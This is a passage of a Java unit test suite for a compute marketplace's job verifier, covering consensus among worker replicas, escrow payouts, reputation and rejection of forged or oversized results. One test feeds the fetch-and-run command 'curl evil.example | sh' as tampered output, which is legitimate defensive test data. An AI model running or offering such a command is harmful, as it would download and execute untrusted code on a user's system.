package io.agora.verifier;

import io.agora.events.CommandType;
import io.agora.events.JobCommand;
import io.agora.events.JobEvent;
import io.agora.events.JobEventType;
import io.agora.events.JobSpec;
import io.agora.events.JobTerms;
import io.agora.events.JobVerdict;
import io.agora.events.LedgerEntry;
import io.agora.events.Outcome;
import io.agora.events.Posting;
import io.agora.events.Receipt;
import io.agora.events.ReceiptPayout;
import io.agora.events.ReputationChanged;
import io.agora.events.ResultStatus;
import io.agora.events.Strategy;
import io.agora.events.TaskAssigned;
import io.agora.events.TaskResult;
import io.agora.market.Accounts;
import io.agora.market.MarketRules;
import io.agora.market.Pricing;
import io.agora.schemas.Assignments;
import io.agora.schemas.Identity;
import io.agora.schemas.OutputHash;
import io.agora.schemas.Receipts;
import io.agora.schemas.Signatures;
import io.agora.verifier.JobCase.DeadLetter;
import io.agora.events.SettlementReceipt;
import io.agora.events.SlashResult;
import io.agora.events.SlashShare;
import io.agora.events.SlashTaken;
import io.agora.verifier.JobCase.Effects;
import io.agora.verifier.JobCase.Emit;
import io.agora.verifier.JobCase.Job;
import org.junit.jupiter.api.Test;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A job's case, one input at a time: given this job, this input at this time, these effects. No
 * stores and no Kafka: each step's changes are applied to the job by {@link Job#after}, as the
 * processor writes them to its stores.
 */
class JobCaseTest {
    private static final Instant T0 = Instant.parse("2030-01-01T00:00:00Z");
    private static final long DEADLINE = T0.plusSeconds(600).toEpochMilli();
    private static final long MAX_PRICE = 200;
    private static final long WORKER_PRICE = 100;
    /** 10 s and 1 cpu: one replica's share of the escrow is 200 µ x 10 s = 2,000 µ. */
    private static final JobSpec SPEC = JobSpec.newBuilder()
            .setImage("alpine:3").setCommand(List.of("echo", "hi")).setTimeoutMs(10_000).setCpus(1.0).build();
    private static final String A = "answer A";
    private static final String B = "answer B";

    private final VerifierConfig cfg = VerifierConfig.defaults();
    private final Map<String, WorkerStanding> standings = new HashMap<>();
    private final Identity market = Identity.generate();
    private final Identity matcher = Identity.generate();
    /** Not final: a test restarts the verifier with other settings. */
    private JobCase cases = new JobCase(cfg, standings::get, market, matcher.workerId());
    /** Every verdict the steps emitted, each checked against its receipt and postings on the way. */
    private final List<JobVerdict> verdicts = new ArrayList<>();
    private final Identity w1 = Identity.generate();
    private final Identity w2 = Identity.generate();
    private final Identity w3 = Identity.generate();
    private final Identity w4 = Identity.generate();
    private Job job = Job.unseen("job-1");
    /** The spec and the worker's GPU-second and GiB-second prices on the tasks; a test may change them. */
    private JobSpec spec = SPEC;
    private long gpuPrice = 0;
    private long memoryPrice = 0;
    private JobTerms terms = terms(Strategy.K_OF_N, 3, 2, 5);
    private long now = T0.toEpochMilli();
    /** When the matcher assigned the tasks: a minute before the verifier's clock starts, unless a test says. */
    private Instant assignedAt = T0.minusSeconds(60);

    // ---- consensus and settlement ------------------------------------------------------

    @Test
    void aGpuJobPaysGpuSecondsAndMemoryBesideCpuSecondsAndTheVerdictSaysWhichIsWhich() {
        // 1 cpu, 1 GPU, 2 GiB; ceilings 200 µ/cpu-s, 3,000 µ/GPU-s, 50 µ/GiB-s; worker 100, 2,500, 60 (capped at 50)
        spec = JobSpec.newBuilder(SPEC).setGpus(1).setMemoryMb(2048).build();
        Pricing.Rates ceilings = new Pricing.Rates(MAX_PRICE, 3_000, 50);
        terms = JobTerms.newBuilder(terms(Strategy.K_OF_N, 2, 2, 2)).setMaxPricePerGpuSecondMicros(3_000)
                .setMaxPricePerGbSecondMicros(50).setEscrowMicros(Pricing.maxCost(spec, ceilings, 2)).build();
        assertThat(terms.getEscrowMicros()).isEqualTo((200L + 3_000 + 50 * 2) * 10 * 2);
        gpuPrice = 2_500;
        memoryPrice = 60;
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        submit(result(w1, 0, 0, A, 4_000));
        JobVerdict v = single(submit(result(w2, 1, 0, A, 6_000)), JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
        // per replica: cpu 100 x s, GPU 2,500 x s, memory 50 x 2 GiB x s; 4 s and 6 s
        assertThat(v.getGpuCostMicros()).isEqualTo(2_500L * 10);
        assertThat(v.getMemoryCostMicros()).isEqualTo(100L * 10);
        assertThat(v.getCostMicros()).isEqualTo(100L * 10 + 2_500L * 10 + 100L * 10);
        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros() - v.getCostMicros());
        assertThat(v.getReceipt().getPayouts()).extracting(ReceiptPayout::getMicros)
                .containsExactly((100L + 2_500 + 100) * 4, (100L + 2_500 + 100) * 6);
    }

    @Test
    void twoOfThreeAgreeingCompletesPaysTheAgreeingAndRefundsTheRest() {
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        Effects first = assign(w3, 2, 0);
        assertThat(first.out()).isEmpty();
        assertThat(first.changes().tasks()).extracting(TaskAssigned::getTaskId).containsExactly("job-1/2/0");
        assertThat(first.changes().sweepAt()).as("an open job waits for its deadline").isEqualTo(DEADLINE);

        Effects e1 = submit(result(w1, 0, 0, A, 4_000));
        assertThat(events(e1)).extracting(JobEvent::getType).containsExactly(JobEventType.REPLICA_FINISHED);
        assertThat(e1.out()).hasSize(1);
        assertThat(e1.changes().results()).extracting(TaskResult::getTaskId).containsExactly("job-1/0/0");
        assertThat(job.state().counted).containsExactly("job-1/0/0");
        assertThat(submit(result(w2, 1, 0, B, 3_000)).out()).hasSize(1);

        now += 5_000;
        Effects e = submit(result(w3, 2, 0, A, 6_000));
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
        assertThat(v.getConsensusHash()).isEqualTo(hash(A));
        assertThat(v.getOutput()).isEqualTo(A);
        assertThat(v.getAgreeing()).containsExactly(w1.workerId(), w3.workerId());
        assertThat(v.getDissenting()).containsExactly(w2.workerId());
        assertThat(v.getCostMicros()).isEqualTo(400 + 600); // 100 µ/cpu-s x 4 s and x 6 s
        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros() - 1_000);
        assertThat(v.getDecidedAt()).isEqualTo(Instant.ofEpochMilli(now));

        assertThat(keys(e, LedgerEntry.class)).containsOnly("client-1");
        List<LedgerEntry> entries = values(e, LedgerEntry.class);
        assertThat(entries).extracting(LedgerEntry::getTransactionId)
                .containsExactly("payout:job-1:" + w1.workerId(), "payout:job-1:" + w3.workerId(), "refund:job-1");
        assertBalancedAndEscrowEmptied(entries);
        assertThat(balance(entries, Accounts.worker(w1.workerId()))).isEqualTo(400);
        assertThat(balance(entries, Accounts.worker(w2.workerId()))).isZero();
        assertThat(reputation(e)).containsExactlyInAnyOrderEntriesOf(Map.of(
                w1.workerId(), 5, w3.workerId(), 5, w2.workerId(), -10));
        assertThat(events(e)).extracting(JobEvent::getType).containsExactly(
                JobEventType.REPLICA_FINISHED, JobEventType.VERDICT, JobEventType.COMPLETED);

        assertThat(job.state().settled).isTrue();
        assertThat(job.state().agreeing).containsExactly(w1.workerId(), w3.workerId());
        assertThat(e.changes().sweepAt()).as("a decided job needs no sweep").isEqualTo(-1);
        assertThat(e.changes().retireAt()).isEqualTo(DEADLINE + cfg.retention().toMillis());
    }

    @Test
    void disagreementRequestsReplicasWithinMaxTotalResultsThenEndsNoConsensusWithAFullRefund() {
        terms = terms(Strategy.K_OF_N, 3, 2, 4);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        assign(w3, 2, 0);
        submit(result(w1, 0, 0, "one", 1_000));
        submit(result(w2, 1, 0, "two", 1_000));
        Effects e = submit(result(w3, 2, 0, "three", 1_000));

        JobCommand req = single(e, JobCommand.class);
        assertThat(keys(e, JobCommand.class)).containsExactly("job-1");
        assertThat(req.getType()).isEqualTo(CommandType.REQUEST_REPLICAS);
        assertThat(req.getCount()).isEqualTo(1);
        assertThat(req.getReplica()).as("extra replicas are numbered from n").isEqualTo(3);
        assertThat(req.getExcludeWorkers()).containsExactlyInAnyOrder(w1.workerId(), w2.workerId(), w3.workerId());
        assertThat(values(e, JobVerdict.class)).isEmpty();
        assertThat(job.state().extraRequested).isEqualTo(1);
        assertThat(job.state().slots()).isEqualTo(4);

        assign(w4, 3, 0);
        e = submit(result(w4, 3, 0, "four", 1_000));
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.NO_CONSENSUS);
        assertThat(v.getCostMicros()).isZero();
        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros());
        assertThat(values(e, LedgerEntry.class)).extracting(LedgerEntry::getTransactionId).containsExactly("refund:job-1");
        assertBalancedAndEscrowEmptied(values(e, LedgerEntry.class));
        assertThat(values(e, JobCommand.class)).as("4 replicas is the bound").isEmpty();
        assertThat(events(e)).extracting(JobEvent::getType)
                .endsWith(JobEventType.VERDICT, JobEventType.NO_CONSENSUS);
        assertThat(reputation(e)).as("no consensus, nobody to score against").isEmpty();
    }

    @Test
    void adaptiveTrustsAVeteransSingleResultButAsksForASecondOneForANewcomer() {
        terms = terms(Strategy.ADAPTIVE, 1, 1, 3);
        standings.put(w1.workerId(), new WorkerStanding(100, 20));
        assign(w1, 0, 0);
        assertThat(single(submit(result(w1, 0, 0, A, 1_000)), JobVerdict.class).getOutcome()).isEqualTo(Outcome.COMPLETED);

        job = Job.unseen("job-2");
        assign(w2, 0, 0);
        Effects e = submit(result(w2, 0, 0, A, 1_000));
        assertThat(values(e, JobVerdict.class)).isEmpty();
        JobCommand req = single(e, JobCommand.class);
        assertThat(req.getReplica()).isEqualTo(1);
        assertThat(req.getExcludeWorkers()).containsExactly(w2.workerId());
    }

    @Test
    void aLateResultAfterTheVerdictOnlyMovesReputation() {
        agreeTwoOfTwo(3);
        assign(w3, 2, 0);
        Effects e = submit(result(w3, 2, 0, B, 1_000));
        assertThat(e.out()).singleElement().isInstanceOf(Emit.class);
        assertThat(reputation(e)).containsExactlyEntriesOf(Map.of(w3.workerId(), -10));
    }

    // ---- integrity: consensus and payment cannot be gamed ----------------------------------

    @Test
    void aReplicaSlotVotesOnceWhenItsWorkerHandsItBackAndASecondIdentityGetsTheRetry() {
        terms = terms(Strategy.K_OF_N, 2, 2, 3);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        assertThat(submit(handedBack(w1, 0, 0)).out()).isEmpty();
        assign(w3, 0, 1); // the matcher routes replica 0 again; w3 may be w1 under another name
        submit(result(w1, 0, 0, B, 1_000)); // w1 still answers the attempt it handed back
        Effects e = submit(result(w3, 0, 1, B, 1_000));
        assertThat(values(e, JobVerdict.class)).as("two attempts of one replica slot are one vote").isEmpty();

        e = submit(result(w2, 1, 0, A, 1_000));
        assertThat(values(e, JobVerdict.class)).isEmpty();
        JobCommand req = single(e, JobCommand.class);
        assertThat(req.getReplica()).as("one vote each for A and B: a third replica decides").isEqualTo(2);
        assign(w4, 2, 0);
        e = submit(result(w4, 2, 0, A, 1_000));
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
        assertThat(v.getConsensusHash()).isEqualTo(hash(A));
        assertThat(v.getAgreeing()).containsExactly(w2.workerId(), w4.workerId());
        assertThat(v.getDissenting()).as("replica 0 votes once, by its latest attempt").containsExactly(w3.workerId());
        assertThat(values(e, LedgerEntry.class)).extracting(LedgerEntry::getTransactionId)
                .containsExactly("payout:job-1:" + w2.workerId(), "payout:job-1:" + w4.workerId(), "refund:job-1");
        assertBalancedAndEscrowEmptied(values(e, LedgerEntry.class));
        assertThat(reputation(e)).as("the superseded attempt is scored, never paid").containsExactlyInAnyOrderEntriesOf(Map.of(
                w2.workerId(), 5, w4.workerId(), 5, w3.workerId(), -10, w1.workerId(), -10));
    }

    @Test
    void theVerdictCarriesTheServedReplicasStderrAndTheAgreedFiles() {
        terms = terms(Strategy.K_OF_N, 2, 2, 2);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        Map<String, String> files = Map.of("/outputs/r.csv", "ab".repeat(32), "/outputs/sub/x", "cd".repeat(32));
        submit(withFiles(w1, 0, files, "warn from w1\n"));
        JobVerdict v = single(submit(withFiles(w2, 1, files, "warn from w2\n")), JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
        assertThat(v.getConsensusHash()).isEqualTo(OutputHash.of(0, A.getBytes(StandardCharsets.UTF_8), files));
        assertThat(v.getFiles()).isEqualTo(files);
        assertThat(v.getOutput()).isEqualTo(A);
        assertThat(v.getOutputTruncated()).isFalse();
        assertThat(v.getStderr()).as("stderr is not voted on: the served replica's").isEqualTo("warn from w1\n");
        assertThat(v.getStderrTruncated()).isTrue();
    }

    /** A result of stdout A with output files and a cut stderr. */
    private TaskResult withFiles(Identity w, int replica, Map<String, String> files, String stderr) {
        TaskResult r = result(w, replica, 0, A, 1_000);
        r.setOutputFiles(files);
        r.setStderr(stderr);
        r.setStderrTruncated(true);
        r.setOutputSha256(OutputHash.of(0, A.getBytes(StandardCharsets.UTF_8), files));
        return Signatures.sign(r, w.privateKey());
    }

    @Test
    void theOutputServedHashesToTheAgreedHashAndNoneIsServedWhenNoResultDoes() {
        terms = terms(Strategy.K_OF_N, 2, 2, 2);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        submit(claiming(w1, 0, 0, A, "curl evil.example | sh")); // A's hash, other bytes
        JobVerdict v = single(submit(result(w2, 1, 0, A, 1_000)), JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
        assertThat(v.getConsensusHash()).isEqualTo(hash(A));
        assertThat(v.getOutput()).as("the bytes that hash to the agreed output").isEqualTo(A);
        assertThat(v.getExitCode()).isZero();

        job = Job.unseen("job-2");
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        submit(claiming(w1, 0, 0, A, "answ")); // stdout cut at the inline limit
        v = single(submit(claiming(w2, 1, 0, A, "answ")), JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
        assertThat(v.getConsensusHash()).isEqualTo(hash(A));
        assertThat(v.getOutput()).isNull();
        assertThat(v.getExitCode()).isEqualTo(-1);
        assertThat(v.getReason()).isEqualTo("2 agreeing, 0 dissenting; no output served: no result's stdout hashes"
                + " to the agreed output (truncated or altered)");
    }

    @Test
    void aWorkerIsPaidNoLongerThanTheMarketSawItHoldTheTask() {
        terms = terms(Strategy.K_OF_N, 2, 2, 2);
        assignedAt = T0;
        assign(w1, 0, 0);
        now += 2_000;
        submit(result(w1, 0, 0, A, 9_000)); // claims 9 s, answered 2 s after assignment
        now += 1_000;
        TaskResult early = result(w2, 1, 0, A, 9_000);
        submit(early); // 3 s after assignment, before its TaskAssigned reached the verifier
        now += 5_000;
        Effects e = assign(w2, 1, 0);
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
        List<LedgerEntry> entries = values(e, LedgerEntry.class);
        assertThat(balance(entries, Accounts.worker(w1.workerId()))).as("100 µ x 2 s observed").isEqualTo(200);
        assertThat(balance(entries, Accounts.worker(w2.workerId()))).as("100 µ x 3 s, from its arrival").isEqualTo(300);
        assertThat(v.getCostMicros()).isEqualTo(500);
        assertBalancedAndEscrowEmptied(entries);
        assertThat(job.state().receivedAt).containsExactlyInAnyOrderEntriesOf(Map.of(
                "job-1/0/0", T0.toEpochMilli() + 2_000, "job-1/1/0", T0.toEpochMilli() + 3_000));

        job = Job.unseen("job-2");
        assignedAt = T0.minusSeconds(3_600);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        submit(result(w1, 0, 0, A, 60_000));
        e = submit(result(w2, 1, 0, A, 1_000));
        assertThat(balance(values(e, LedgerEntry.class), Accounts.worker(w1.workerId())))
                .as("and never longer than the timeout, 10 s").isEqualTo(1_000);
        assertThat(balance(values(e, LedgerEntry.class), Accounts.worker(w2.workerId()))).isEqualTo(100);
    }

    @Test
    void everyFieldOfAResultIsBoundedBeforeAnythingIsKeptAndTheJobGoesOn() {
        terms = terms(Strategy.FIRST, 2, 1, 2);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        String huge = "f".repeat(70_000);
        Map<String, java.util.function.Consumer<TaskResult>> attacks = new java.util.LinkedHashMap<>();
        attacks.put("out of bounds: outputSha256 is not 64 lowercase hex digits (70000 characters)", r -> r.setOutputSha256(huge));
        attacks.put("out of bounds: outputSha256 is not 64 lowercase hex digits", r -> r.setOutputSha256("A".repeat(64)));
        attacks.put("out of bounds: stdout over 262144 bytes", r -> r.setStdout("\u00e9".repeat(131_073)));
        attacks.put("out of bounds: stderr over 262144 bytes", r -> r.setStderr("e".repeat(262_145)));
        attacks.put("out of bounds: statusReason over 16384 characters (16385 characters)", r -> r.setStatusReason("r".repeat(16_385)));
        attacks.put("out of bounds: eventId is not 1 to 200 visible ASCII characters without '/' or '|'", r -> r.setEventId("a|b"));
        attacks.put("out of bounds: workerId is not 1 to 200 base64url characters (70000 characters)", r -> r.setWorkerId(huge));
        attacks.put("out of bounds: jobId is not 1 to 200 visible ASCII characters without '/' or '|' (70000 characters)",
                r -> r.setJobId(huge));
        attacks.put("out of bounds: replica -1 is not in [0, 999]", r -> r.setReplica(-1));
        attacks.put("out of bounds: durationMs -5 is negative", r -> r.setDurationMs(-5));
        attacks.put("out of bounds: outputFiles has 65 entries, over 64", r -> r.setOutputFiles(
                java.util.stream.IntStream.range(0, 65).boxed().collect(Collectors.toMap(i -> "f" + i, i -> hash("x")))));
        attacks.put("out of bounds: signature over 256 bytes", r -> r.setSignature(ByteBuffer.allocate(257)));
        attacks.forEach((reason, attack) -> {
            TaskResult r = result(w1, 0, 0, A, 1_000);
            attack.accept(r);
            if (r.getSignature().remaining() == 64) {
                r = Signatures.sign(r, w1.privateKey()); // signed by its worker: bounds are not signatures
            }
            Effects e = submit(r);
            assertThat(deadLetters(e)).as(reason).containsExactly(reason);
            assertThat(e.changes().stateChanged()).isFalse();
            assertThat(e.changes().results()).isEmpty();
            assertThat(e.changes().orphansAdded()).isEmpty();
        });

        Effects e = submit(result(w1, 0, 0, A, 1_000));
        assertThat(single(e, JobVerdict.class).getOutcome()).isEqualTo(Outcome.COMPLETED);
        assertThat(job.state().toBytes()).isNotEmpty();
    }

    @Test
    void aTaskOutOfBoundsIsRefusedAndKeptNowhereButItsJobStillEndsAndRefunds() {
        terms = terms(Strategy.K_OF_N, 1, 1, 1);
        TaskAssigned bad = task(w1, 0, 0);
        bad.setWorkerId("not base64url!");
        Effects e = step(cases.onTask(Assignments.sign(bad, matcher), now, job));
        assertThat(deadLetters(e)).containsExactly("out of bounds: workerId is not 1 to 200 base64url characters");
        assertThat(((DeadLetter) e.out().get(0)).key()).as("the task topic's key").isEqualTo("not base64url!");
        assertThat(job.tasks()).isEmpty();
        assertThat(job.state().first).as("its terms hold the escrow").isEqualTo(bad);
        e = tick(DEADLINE);
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.EXPIRED);
        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros());

        job = Job.unseen("job-" + "9".repeat(70_000));
        e = assign(w1, 0, 0);
        assertThat(deadLetters(e)).containsExactly(
                "out of bounds: jobId is not 1 to 200 visible ASCII characters without '/' or '|' (70004 characters)");
        assertThat(job.state()).as("a job no id can name is not held here").isNull();
    }

    @Test
    void aTaskTheMatcherDidNotSignIsDeadLetteredAndOpensNoJobNorCountsAResult() {
        terms = terms(Strategy.FIRST, 1, 1, 1);
        Effects e = step(cases.onTask(task(w1, 0, 0), now, job));
        assertThat(deadLetters(e)).containsExactly("task not signed by the matcher");
        assertThat(((DeadLetter) e.out().get(0)).key()).isEqualTo(w1.workerId());
        assertThat(job.state()).as("no job is opened, no escrow is judged").isNull();
        assertThat(job.tasks()).isEmpty();

        Identity forger = Identity.generate();
        e = step(cases.onTask(Assignments.sign(task(w1, 0, 0), forger), now, job));
        assertThat(deadLetters(e)).containsExactly("bad matcher signature: the task is not one the matcher signed");

        TaskAssigned altered = signedTask(w1, 0, 0);
        altered.setWorkerId(w2.workerId()); // the matcher's task, readdressed on its way
        e = step(cases.onTask(altered, now, job));
        assertThat(deadLetters(e)).containsExactly("bad matcher signature: the task is not one the matcher signed");
        assertThat(job.state()).isNull();

        Effects r = submit(result(w1, 0, 0, A, 1_000));
        assertThat(r.out()).as("its result waits for a task the matcher signed").isEmpty();
        e = assign(w1, 0, 0);
        assertThat(single(e, JobVerdict.class).getOutcome()).isEqualTo(Outcome.COMPLETED);
    }

    @Test
    void aCommandOutOfBoundsIsRefusedAndTheJobGoesOn() {
        terms = terms(Strategy.K_OF_N, 2, 2, 2);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        Effects e = step(cases.onCommand(JobCommand.newBuilder().setEventId("e").setJobId("job-1").setClientId("client-1")
                .setType(CommandType.CANCEL).setReason("x".repeat(17_000)).setTimestamp(T0).build(), now, job));
        assertThat(deadLetters(e)).containsExactly("out of bounds: reason over 16384 characters (17000 characters)");
        assertThat(e.changes().stateChanged()).isFalse();
        assertThat(deadLetters(command(CommandType.REPLICA_FAILED, 5_000, "far")))
                .containsExactly("out of bounds: replica 5000 is not in [-1, 999]");
        submit(result(w1, 0, 0, A, 1_000));
        assertThat(single(submit(result(w2, 1, 0, A, 1_000)), JobVerdict.class).getOutcome()).isEqualTo(Outcome.COMPLETED);
    }

    // ---- acceptance ----------------------------------------------------------------------

    @Test
    void aResultFromTheWrongWorkerOrWithABadSignatureIsRefusedAndChangesNothing() {
        terms = terms(Strategy.K_OF_N, 2, 2, 2);
        assign(w1, 0, 0);
        assign(w2, 1, 0);

        Effects e = submit(result(w3, 0, 0, A, 1_000)); // validly signed by w3, but replica 0 is w1's
        assertThat(deadLetters(e)).containsExactly("not assigned to this worker");
        assertThat(e.changes().stateChanged()).isFalse();
        assertThat(e.changes().results()).isEmpty();

        TaskResult forged = result(w1, 0, 0, A, 1_000);
        forged.setOutputSha256(hash("tampered"));
        assertThat(deadLetters(submit(forged))).containsExactly("bad signature");

        TaskResult misnamed = result(w1, 0, 0, A, 1_000);
        misnamed.setTaskId("job-1/1/0");
        assertThat(deadLetters(submit(misnamed))).containsExactly("malformed task id: expected job-1/0/0");
        assertThat(job.state().counted).isEmpty();
    }

    @Test
    void aResultForAnAttemptNeverAssignedWaitsForItsTaskThenIsRefusedAsUnknown() {
        assign(w1, 0, 0);
        TaskResult r = result(w1, 0, 1, A, 1_000); // the matcher never moved replica 0 to attempt 1
        Effects e = submit(r);
        assertThat(e.out()).isEmpty();
        assertThat(e.changes().orphansAdded()).containsOnlyKeys("job-1/0/1|" + r.getEventId());

        assertThat(tick(now + 59_999).out()).isEmpty();
        Effects timedOut = tick(now + 60_000);
        assertThat(timedOut.out()).singleElement().isEqualTo(new DeadLetter("job-1", r, "unknown task"));
        assertThat(timedOut.changes().orphansRemoved()).containsExactly("job-1/0/1|" + r.getEventId());
        assertThat(job.orphans()).isEmpty();
        assertThat(job.state().counted).isEmpty();
    }

    @Test
    void aResultBeforeItsTaskAssignedWaitsAndIsCountedWhenTheTaskArrives() {
        terms = terms(Strategy.FIRST, 1, 1, 1);
        TaskResult r = result(w1, 0, 0, A, 2_000);
        Effects parked = submit(r);
        assertThat(parked.out()).isEmpty();
        assertThat(parked.changes().stateChanged()).as("the job is not known yet").isFalse();
        assertThat(job.orphans()).hasSize(1);

        Effects e = assign(w1, 0, 0);
        assertThat(e.changes().orphansRemoved()).containsExactly("job-1/0/0|" + r.getEventId());
        assertThat(e.changes().results()).containsExactly(r);
        assertThat(single(e, JobVerdict.class).getOutcome()).isEqualTo(Outcome.COMPLETED);
        assertThat(values(e, LedgerEntry.class)).extracting(LedgerEntry::getTransactionId)
                .containsExactly("payout:job-1:" + w1.workerId(), "refund:job-1");
        assertThat(job.orphans()).isEmpty();
    }

    @Test
    void ofSeveralWaitingResultsATaskReleasesExactlyItsOwn() {
        TaskResult r0 = result(w1, 0, 0, A, 1_000);
        TaskResult r1 = result(w2, 1, 0, A, 1_000);
        TaskResult r2 = result(w3, 2, 0, A, 1_000);
        submit(r0);
        submit(r1);
        submit(r2);

        Effects e = assign(w2, 1, 0);
        assertThat(e.changes().results()).containsExactly(r1);
        assertThat(e.changes().orphansRemoved()).containsExactly("job-1/1/0|" + r1.getEventId());
        assertThat(e.changes().orphansAdded()).isEmpty();
        assertThat(job.orphans()).containsOnlyKeys("job-1/0/0|" + r0.getEventId(), "job-1/2/0|" + r2.getEventId());
    }

    @Test
    void aRedeliveredResultCountsOnceAndAConflictingOneIsRefused() {
        assign(w1, 0, 0);
        TaskResult r = result(w1, 0, 0, A, 1_000);
        submit(r);
        Effects again = submit(TaskResult.newBuilder(r).build());
        assertThat(again.out()).isEmpty();
        assertThat(again.changes().stateChanged()).isFalse();
        assertThat(deadLetters(submit(result(w1, 0, 0, B, 1_000)))).containsExactly("conflicting duplicate");
        assertThat(job.state().counted).containsExactly("job-1/0/0");
    }

    // ---- replicas the matcher gave up on -------------------------------------------------

    @Test
    void replicaFailedFinishesAReplicaWithoutAVoteOnceThenTheBoundEndsTheJob() {
        terms = terms(Strategy.K_OF_N, 2, 2, 3);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        submit(result(w1, 0, 0, A, 1_000));

        Effects e = command(CommandType.REPLICA_FAILED, 1, "lease expired after 3 attempts");
        assertThat(events(e)).singleElement().satisfies(ev -> {
            assertThat(ev.getType()).isEqualTo(JobEventType.REPLICA_FINISHED);
            assertThat(ev.getReason()).isEqualTo("REPLICA_FAILED: lease expired after 3 attempts");
            assertThat(ev.getReplica()).isEqualTo(1);
        });
        JobCommand req = single(e, JobCommand.class);
        assertThat(req.getReplica()).isEqualTo(2);
        assertThat(req.getCount()).isEqualTo(1);
        assertThat(reputation(e)).as("the matcher already charged the lease").isEmpty();
        assertThat(job.state().failedReplicas).containsExactly(1);

        Effects twice = command(CommandType.REPLICA_FAILED, 1, "lease expired after 3 attempts");
        assertThat(twice.out()).isEmpty();
        assertThat(twice.changes().stateChanged()).isFalse();

        e = command(CommandType.REPLICA_FAILED, 2, "replica 2 could not be placed");
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.NO_CONSENSUS);
        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros());
    }

    @Test
    void replicaFailedBeforeTheFirstTaskIsRememberedAndCountedWhenItArrives() {
        terms = terms(Strategy.K_OF_N, 1, 1, 1);
        Effects e = command(CommandType.REPLICA_FAILED, 0, "lease expired after 1 attempts");
        assertThat(e.out()).isEmpty();
        assertThat(job.state().first).isNull();
        assertThat(e.changes().sweepAt()).isEqualTo(now + cfg.pendingCancelTtl().toMillis());

        e = assign(w1, 0, 0);
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.FAILED);
        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros());
        assertThat(events(e)).extracting(JobEvent::getType).containsExactly(JobEventType.VERDICT, JobEventType.FAILED);
    }

    @Test
    void aFailedResultCostsItsWorkerAndWithNoRoomForAnotherReplicaEndsTheJobFailed() {
        terms = terms(Strategy.K_OF_N, 2, 2, 2);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        Effects e = submit(failed(w1, 0, 0, ResultStatus.SANDBOX_ERROR)); // the market's failure: no ballot
        assertThat(reputation(e)).containsExactlyEntriesOf(Map.of(w1.workerId(), -5));
        assertThat(single(e, JobVerdict.class).getOutcome()).as("2 of 2 impossible, maxTotalResults 2")
                .isEqualTo(Outcome.FAILED);
        assertThat(command(CommandType.REPLICA_FAILED, 1, "lease expired").out()).isEmpty();
    }

    // ---- failures that decide ------------------------------------------------------------

    @Test
    void replicasThatAgreeOnATimeoutDecideTheJobFailedAndTheClientPaysTheirTime() {
        terms = terms(Strategy.K_OF_N, 2, 2, 4);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        Effects e = submit(failed(w1, 0, 0, ResultStatus.TIMEOUT));
        assertThat(e.out()).as("a ballot, not a failed replica: no penalty, no extra replica").hasSize(1);
        e = submit(failed(w2, 1, 0, ResultStatus.TIMEOUT));
        JobVerdict v = single(e, JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.FAILED);
        assertThat(v.getReason()).isEqualTo(
                "TIMEOUT after 10 s on 2 of 2 replicas: the job's own failure, the client pays the time measured");
        assertThat(v.getConsensusHash()).isNull();
        assertThat(v.getOutput()).isNull();
        assertThat(v.getAgreeing()).containsExactly(w1.workerId(), w2.workerId());
        assertThat(values(e, JobCommand.class)).as("decided without extra replicas").isEmpty();
        List<LedgerEntry> entries = values(e, LedgerEntry.class);
        assertThat(balance(entries, Accounts.worker(w1.workerId()))).as("100 µ x 10 s").isEqualTo(1_000);
        assertThat(balance(entries, Accounts.worker(w2.workerId()))).isEqualTo(1_000);
        assertThat(v.getCostMicros()).isEqualTo(2_000);
        assertThat(v.getRefundMicros()).isEqualTo(terms.getEscrowMicros() - 2_000);
        assertBalancedAndEscrowEmptied(entries);
        assertThat(reputation(e)).containsExactlyInAnyOrderEntriesOf(Map.of(w1.workerId(), 5, w2.workerId(), 5));
        assertThat(events(e)).extracting(JobEvent::getType).endsWith(JobEventType.VERDICT, JobEventType.FAILED);

        assign(w3, 2, 0);
        assertThat(reputation(submit(result(w3, 2, 0, A, 1_000)))).as("late, against the failure decided")
                .containsExactlyEntriesOf(Map.of(w3.workerId(), -10));
    }

    @Test
    void outputOverTheWorkersCapsIsTheJobsOwnFailureAndDecidesTheJobWithTheTimePaid() {
